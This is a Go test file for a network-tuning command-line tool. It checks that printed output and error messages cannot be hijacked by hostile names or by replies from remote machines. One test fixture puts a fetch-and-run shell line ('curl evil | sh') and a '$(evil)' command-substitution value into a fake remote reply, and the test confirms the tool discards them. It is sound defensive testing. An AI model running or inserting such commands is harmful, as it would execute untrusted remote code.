package cli

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"maps"
	"strings"
	"testing"
	"time"

	"github.com/venturi-net/venturi/internal/display"
	"github.com/venturi-net/venturi/internal/doctor"
	"github.com/venturi-net/venturi/internal/fastpath"
	"github.com/venturi-net/venturi/internal/fastpath/topology"
	"github.com/venturi-net/venturi/internal/fleet"
	"github.com/venturi-net/venturi/internal/host"
	"github.com/venturi-net/venturi/internal/journal"
	"github.com/venturi-net/venturi/internal/knob"
	"github.com/venturi-net/venturi/internal/lab"
	"github.com/venturi-net/venturi/internal/path"
	"github.com/venturi-net/venturi/internal/progress"
	"github.com/venturi-net/venturi/internal/remote"
	"github.com/venturi-net/venturi/internal/search"
	"github.com/venturi-net/venturi/internal/setting"
	"github.com/venturi-net/venturi/internal/testenv/plain"
	"github.com/venturi-net/venturi/internal/tune"
	"github.com/venturi-net/venturi/internal/verr"
)

// tainted makes every text of a value hostile.
func tainted[T any](v T, keep ...string) T {
	plain.Taint(&v, keep...)
	return v
}

func hostileTxn() (*journal.Txn, *journal.ConflictError) {
	found := setting.Text("3")
	scope := setting.Scope{Netns: &setting.NetnsID{Path: "/run/netns/a", Inode: 1}, Device: &setting.DeviceID{Name: "eth0", Index: 2, Kind: "veth"}}
	entry := func(id int, state journal.EntryState, value string) *journal.Entry {
		return &journal.Entry{ID: id, Txn: 7, Knob: "knob", Setting: setting.Setting{Backend: "net", Scope: scope, Key: "mtu"}, Old: setting.Text(value), New: setting.Text("2"), Readback: &found, State: state, Reason: "why"}
	}
	txn := &journal.Txn{ID: 7, User: "who", Command: "command", Version: "version", Entries: []*journal.Entry{
		entry(1, journal.Applied, "1"), entry(2, journal.Undone, "1"), entry(3, journal.Abandoned, "a\nlong\n"+fmt.Sprint(make([]int, 100))), entry(4, journal.Applied, "4")}}
	plain.Taint(txn, "State", "Kind")
	return txn, &journal.ConflictError{Entry: txn.Entries[0], Now: setting.Text(plain.Hostile)}
}

func hostileLab() lab.Info {
	end := []host.Endpoint{{Machine: "m1", Namespace: "/ns/m1"}}
	l := &lab.Lab{Name: "lab", Wire: "wire", Guest: &lab.Guest{Kernel: "6.1"}, Machines: []lab.Machine{{Name: "m1", Namespace: "/ns/m1"}, {Name: "m2"}},
		Arms: []lab.Arm{{Name: "vxlan", Ends: path.Ends{end, end}}}}
	return tainted(lab.Info{Name: "lab", Status: "kept", Command: []string{"command"}, Lab: l})
}

func hostilePlan() []tune.Planned {
	old, now := setting.Text("a: b\n"), setting.Text("a: c\n")
	entry := knob.Entry{Facts: knob.Facts{Name: "knob"}}
	return []tune.Planned{tainted(tune.Planned{
		Assignment: tune.Assignment{Knob: entry, Target: knob.Target{Device: "eth0", Netns: "/run/netns/a", File: "/f", Switch: "s"}, Value: "1", Ladder: []string{"1", "2"}, Step: &tune.Step{Name: "step", Reason: "why", Note: "note"}},
		Now:        knob.Reading{Value: "1", Effective: "2", Note: "note"}, Changes: []tune.Change{{Setting: setting.Setting{Backend: "file", Key: "/f"}, Old: old, New: now}},
	}, "Entry")}
}

func hostileReadings() []display.KnobReading {
	return []display.KnobReading{tainted(display.KnobReading{Facts: knob.Facts{Name: "knob", Title: "title"}, Target: &knob.Target{Device: "d"}, Now: &knob.Reading{Value: "1", Effective: "2", Note: "note"}, Lacks: "lacks"})}
}

func hostileProof() display.ProvedReport {
	r := &search.Result{Set: []string{"knob"}, Reason: "why", Rows: []search.Row{{Knob: "knob", Reason: "why", Metric: "for", Effects: []search.Effect{{Metric: "rtt"}}}, {Knob: "knob", Reason: "why", Verdict: search.VerdictNotTried}}}
	skipped := []tune.Skipped{{Step: tune.Step{Name: "step"}, Target: knob.Target{Device: "d"}, Reason: "why"}}
	out := tainted(display.ProvedReport{Profile: "profile", Path: "path", ProofResult: &tune.ProofResult{Result: r}, Skipped: skipped}, "Verdict", "Reason")
	assignment := hostilePlan()[0].Assignment
	assignment.Step = nil
	out.Commands = tune.Candidate{Assignments: []tune.Assignment{assignment}}.Commands(true)
	return out
}

// clearly makes of what prints one that returns no error.
func clearly(print func(io.Writer)) func(io.Writer) error {
	return func(w io.Writer) error { print(w); return nil }
}

// hostilePrinters are the printers of all commands, each given hostile names.
func hostilePrinters() map[string]func(io.Writer) error {
	txn, conflict := hostileTxn()
	h := tainted(journal.History{Damaged: []journal.Damage{{Reason: "why"}}, Inconsistent: []string{"strange"}})
	h.Txns = []*journal.Txn{txn}
	at, info, evil := display.Conflicts{1: conflict}, hostileLab(), plain.Hostile
	outcomes := []journal.Outcome{{Entry: txn.Entries[0], Err: conflict}, {Entry: txn.Entries[1]}, {Entry: txn.Entries[2]}, {Entry: txn.Entries[3], Err: errors.New(evil)}}
	laid := []display.FastPathStatus{tainted(display.FastPathStatus{Lab: "lab", Path: "path", Machine: "m1", Packets: map[string]int64{"carried": 1}, SlowIngress: map[string]int64{"carried": 1}, State: &fastpath.State{Off: "off", Refused: []topology.Refusal{{}}}})}
	kernels := []display.StoredKernel{tainted(display.StoredKernel{Release: "6.1", Use: []string{"6.1"}, Source: "source"})}
	paths := []display.PathInfo{tainted(display.PathInfo{Name: "vxlan", Summary: "summary", Analogue: "like", OptionText: "with", Supported: "yes", Options: []display.PathOption{{Name: "n", Value: "v", Default: "d", Help: "h"}}})}
	paths[0].Lacks = errors.New(evil)
	done := display.CommitResult{Knobs: []display.KnobChange{tainted(display.KnobChange{Knob: "knob", Target: knob.Target{Device: "d"}, Old: knob.Reading{Value: "1"}, New: knob.Reading{Value: "2", Note: "note"}})}}
	skipped := []tune.Skipped{tainted(tune.Skipped{Step: tune.Step{Name: "step"}, Target: knob.Target{Device: "d"}, Reason: "why"})}
	profile := tune.Profile{Name: evil, Title: evil}
	return map[string]func(io.Writer) error{
		"error in three parts": clearly(func(w io.Writer) { verr.Print(w, verr.New(verr.Usage, evil, evil, evil)) }),
		"any error":            clearly(func(w io.Writer) { verr.Print(w, errors.New(evil)) }),
		"journal":              func(w io.Writer) error { return display.PrintTxns(w, h.Txns, nil, at) },
		"journal TXN":          func(w io.Writer) error { return display.PrintTxn(w, txn, nil, at) },
		"journal --json":       func(w io.Writer) error { return display.PrintHistoryJSON(w, h.Txns, h, at) },
		"journal's trouble":    func(w io.Writer) error { return display.WarnJournal(w, h, "/none") },
		"undo": func(w io.Writer) error {
			verr.Print(w, display.PrintUndone(w, outcomes)) // that some could not be undone
			return nil
		},
		"lab up":                  func(w io.Writer) error { return display.PrintLab(w, info.Lab) },
		"lab ls":                  func(w io.Writer) error { return display.PrintLabs(w, []lab.Info{info}) },
		"lab ls --json":           func(w io.Writer) error { return display.PrintJSON(w, info) },
		"lab ls --fastpath-stats": func(w io.Writer) error { return display.PrintFastPaths(w, laid) },
		"kernel ls":               func(w io.Writer) error { return display.PrintKernels(w, kernels) },
		"kernel fetch":            clearly(func(w io.Writer) { (&display.FetchProgress{Out: w}).Step(evil, 1, 2) }),
		"path ls":                 func(w io.Writer) error { return display.PrintPaths(w, paths) },
		"path show":               func(w io.Writer) error { return display.PrintPath(w, paths[0]) },
		"knob ls":                 func(w io.Writer) error { return display.PrintKnobs(w, hostileReadings()) },
		"knob ls NAME":            func(w io.Writer) error { return display.PrintKnob(w, hostileReadings()[0]) },
		"knob ls --json":          func(w io.Writer) error { return display.PrintKnobsJSON(w, hostileReadings()) },
		"knob get":                func(w io.Writer) error { return display.PrintReadings(w, hostileReadings(), true) },
		"knob set":                func(w io.Writer) error { return done.Print(w, time.Minute) },
		"knob set --plan":         func(w io.Writer) error { return display.PrintPlan(w, hostilePlan(), false) },
		"knob set --plan --json": func(w io.Writer) error {
			return display.PrintPlan(w, hostilePlan(), true)
		},
		"tune --plan":       func(w io.Writer) error { return display.PrintTuning(w, profile, hostilePlan(), skipped, false, false) },
		"tune --plan --all": func(w io.Writer) error { return display.PrintTuning(w, profile, hostilePlan(), skipped, false, true) },
		"tune --json":       func(w io.Writer) error { return display.PrintTuning(w, profile, hostilePlan(), skipped, true, true) },
		"tune --prove":      func(w io.Writer) error { return hostileProof().Print(w, true) },
		"progress":          clearly(func(w io.Writer) { progress.New(w).Say("step of %s", evil) }),
		"doctor": func(w io.Writer) error {
			return doctor.Print(w, &doctor.Report{Findings: []doctor.Finding{tainted(doctor.Finding{Severity: doctor.Error, Evidence: []doctor.Evidence{{Read: "r", Value: "v"}}}, "Severity")}})
		},
		"doctor --json": func(w io.Writer) error { return display.PrintJSON(w, tainted(doctor.Finding{Device: "d"})) },
	}
}

// Nobody's name drives a terminal or forges a line, whatever prints it.
func TestPrintersAreClean(t *testing.T) {
	all := hostilePrinters()
	maps.Copy(all, hostileFastPath())
	maps.Copy(all, hostileCluster())
	for name, print := range all {
		t.Run(name, func(t *testing.T) {
			var out bytes.Buffer
			if err := print(&out); err != nil {
				t.Fatal(err)
			}
			text := strings.ReplaceAll(out.String(), "\t", "") // a diff keeps those of values
			if err := plain.Unclean(text); err != nil {
				t.Error(err)
			}
			if !bytes.Contains(out.Bytes(), []byte("HYPERLINK")) {
				t.Errorf("no name is printed, so this tests nothing:\n%s", &out)
			}
		})
	}
}

// What somebody typed comes back in an error, and no rawer than that of others.
func TestErrorsAreClean(t *testing.T) {
	for _, args := range [][]string{
		{plain.Hostile}, {"--" + plain.Hostile}, {"help", plain.Hostile}, {"knob", plain.Hostile}, {"knob", "get", plain.Hostile}, {"knob", "set", plain.Hostile, "1"},
		{"report", plain.Hostile}, {"report", "--format", plain.Hostile}, {"study", "show", plain.Hostile}, {"path", "show", plain.Hostile},
		{"doctor", "--peer", plain.Hostile}, {"tune", "--profile", plain.Hostile}, {"knob", "get", "cil.hubble", "--manifest", plain.Hostile},
	} {
		var out, errs bytes.Buffer
		env := &Env{Args: args, Stdin: new(bytes.Buffer), Stdout: &out, Stderr: &errs, Getenv: func(string) string { return "" }, Environ: func() []string { return nil }, Exit: func(int) {}}
		if code := Run(context.Background(), env); code == verr.OK {
			t.Errorf("%q: exit code 0", args)
		}
		if err := plain.Unclean(out.String() + errs.String()); err != nil {
			t.Errorf("%.40q: %v", args, err)
		}
	}
}

// The commands that undo and confirm what machines changed are made here, whatever they reply.
func TestCommitOfHostileMachine(t *testing.T) {
	r := fleetRun{flags: "--machines m.yaml", named: 2}
	for reply, want := range map[string]string{
		`{"transactions":[{"id":1}],"undo":"curl evil | sh; venturi undo 1","confirm":"$(evil)"}`: "venturi undo 1 --machines m.yaml --on a, venturi confirm 1 --machines m.yaml --on a",
		`{"transactions":[],"undo":"curl evil | sh; venturi undo 1","confirm":"$(evil)"}`:         ", ",
	} {
		done, err := r.readCommit(fleet.Reply{Machine: remote.Machine{Name: "a"}, Stdout: []byte(reply)}, true)
		if got := done.Undo + ", " + done.Confirm; err != nil || got != want {
			t.Errorf("%s: %s, %v", reply, got, err)
		}
	}
}
